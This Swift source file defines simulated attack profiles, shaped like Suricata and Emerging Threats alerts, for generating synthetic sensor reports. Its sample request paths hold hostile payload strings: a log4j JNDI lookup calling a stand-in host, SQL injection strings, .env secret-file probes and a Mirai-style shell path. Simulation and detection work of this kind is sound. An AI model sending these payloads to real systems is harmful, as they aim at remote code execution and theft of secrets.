/// A kind of attack of the simulated world, as a sensor reports it.
struct AttackProfile: Sendable {
    /// What `attack.type` is expected to be.
    let type: String
    let signatureID: Int
    let signature: String
    let category: String
    /// Suricata's scale: 1 is worst.
    let severity: Int
    let transport: String
    let ports: [Int]
    /// Requested paths where it is an HTTP attack.
    let paths: [String]
    /// How often, among all.
    let weight: Int

    init(
        _ type: String, _ signatureID: Int, _ signature: String, _ category: String, _ severity: Int, _ transport: String, ports: [Int],
        paths: [String] = [], weight: Int
    ) {
        self.type = type
        self.signatureID = signatureID
        self.signature = signature
        self.category = category
        self.severity = severity
        self.transport = transport
        self.ports = ports
        self.paths = paths
        self.weight = weight
    }

    /// Names and ids in the manner of the Emerging Threats rules.
    static let all: [AttackProfile] = [
        AttackProfile(
            "scan", 2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", ports: [22, 2222],
            weight: 16),
        AttackProfile(
            "scan", 2_010_935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "TCP", ports: [1433],
            weight: 12),
        AttackProfile("scan", 2_008_578, "ET SCAN Sipvicious Scan", "Attempted Information Leak", 2, "UDP", ports: [5060], weight: 8),
        AttackProfile(
            "bruteforce", 2_101_251, "GPL TELNET Bad Login", "Potentially Bad Traffic", 2, "TCP", ports: [23, 2323], weight: 10),
        AttackProfile(
            "exploit", 2_034_647, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1,
            "TCP",
            ports: [80, 443, 8080], paths: ["/?x=${jndi:ldap://192.0.2.66/a}", "/login"], weight: 6),
        AttackProfile(
            "exploit", 2_024_218, "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Request", "Attempted Administrator Privilege Gain", 1,
            "TCP",
            ports: [445], weight: 8),
        AttackProfile(
            "web", 2_009_714, "ET WEB_SERVER SQL Injection Attempt UNION SELECT", "Web Application Attack", 1, "TCP", ports: [80, 443],
            paths: ["/index.php?id=1+UNION+SELECT+1,2", "/item?id=0%27+or+1=1"], weight: 8),
        AttackProfile(
            "web", 2_031_502, "ET WEB_SERVER Request for hidden .env file", "Web Application Attack", 1, "TCP", ports: [80, 8080],
            paths: ["/.env", "/api/.env", "/laravel/.env"], weight: 8),
        AttackProfile(
            "malware", 2_027_865, "ET MALWARE Mirai Variant User-Agent (Inbound)", "A Network Trojan was detected", 1, "TCP",
            ports: [80, 8080, 60001], paths: ["/shell?cd+/tmp"], weight: 7),
        AttackProfile(
            "dos", 2_016_016, "ET DOS DNS Amplification Attack Inbound", "Detection of a Denial of Service Attack", 2, "UDP", ports: [53],
            weight: 4),
        AttackProfile(
            "dos", 2_017_919, "ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests", "Attempted Denial of Service", 2,
            "UDP", ports: [123], weight: 4),
    ]
}
